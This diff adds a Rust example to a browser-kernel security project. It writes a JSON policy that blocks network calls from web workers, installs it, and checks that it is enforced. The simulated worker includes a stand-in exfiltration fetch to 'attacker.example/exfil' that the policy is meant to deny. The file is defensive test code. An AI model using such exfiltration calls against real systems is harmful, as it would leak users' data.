@@ -1,0 +1,88 @@
+//! Writing a custom security policy (paper §II-B3): policies are JSON
+//! documents; an expert models a vulnerability's triggering conditions as
+//! rules and installs them into the kernel.
+//!
+//! This example authors a policy that blocks *all* worker network activity
+//! on this page (stricter than the paper's CVE-2013-1714 policy), round-
+//! trips it through JSON, installs it, and shows the enforcement.
+//!
+//! ```sh
+//! cargo run --example custom_policy
+//! ```
+
+use jskernel::browser::task::{cb, worker_script};
+use jskernel::browser::{Browser, BrowserConfig, JsValue};
+use jskernel::browser_profile::BrowserProfile;
+use jskernel::core::policy::{ApiSelector, Condition, PolicyAction, PolicyRule, PolicySpec};
+use jskernel::{JsKernel, KernelConfig};
+
+fn main() {
+    // 1. Author the policy as data (what the extension ships as JSON).
+    let policy = PolicySpec {
+        name: "policy_no-worker-network".into(),
+        description: "this page's workers do background math only; any \
+                      network call from a worker is hostile"
+            .into(),
+        scheduling: None,
+        rules: vec![
+            PolicyRule {
+                id: "no-worker-xhr".into(),
+                on: ApiSelector::XhrSend,
+                when: Condition { from_worker: Some(true), ..Condition::default() },
+                action: PolicyAction::Deny { reason: "worker network disabled by site policy".into() },
+            },
+            PolicyRule {
+                id: "no-worker-fetch".into(),
+                on: ApiSelector::Fetch,
+                when: Condition { from_worker: Some(true), ..Condition::default() },
+                action: PolicyAction::Deny { reason: "worker network disabled by site policy".into() },
+            },
+        ],
+    };
+
+    // 2. The JSON wire format (what §II-B calls "represented in JSON").
+    let json = policy.to_json();
+    println!("--- policy JSON ---\n{json}\n");
+    let parsed = PolicySpec::from_json(&json).expect("round-trips");
+    assert_eq!(parsed, policy);
+
+    // 3. Install it on top of the full kernel and run a page.
+    let cfg = KernelConfig::full().with_policy(parsed);
+    let mut browser = Browser::new(
+        BrowserConfig::new(BrowserProfile::chrome(), 7),
+        Box::new(JsKernel::new(cfg)),
+    );
+    browser.boot(|scope| {
+        let _w = scope.create_worker(
+            "worker.js",
+            worker_script(|scope| {
+                // Allowed: compute and report.
+                scope.busy_loop(10_000);
+                scope.post_message(JsValue::from("sum=42"));
+                // Denied by the custom policy: same-origin fetch from a
+                // worker (the stock kernel would have allowed this).
+                scope.fetch("https://attacker.example/exfil", None, cb(|scope, v| {
+                    scope.record("fetch_ok", v.get("ok").cloned().unwrap_or_default());
+                }));
+            }),
+        );
+    });
+    browser.run_until_idle();
+
+    println!("--- enforcement ---");
+    println!("worker fetch result: {:?}", browser.record_value("fetch_ok"));
+    let denied: Vec<String> = browser
+        .trace()
+        .facts()
+        .filter_map(|(_, f)| match f {
+            jskernel::browser::trace::Fact::Denied { what, reason } => {
+                Some(format!("denied {what}: {reason}"))
+            }
+            _ => None,
+        })
+        .collect();
+    for d in &denied {
+        println!("{d}");
+    }
+    assert!(!denied.is_empty(), "the custom policy must have fired");
+}
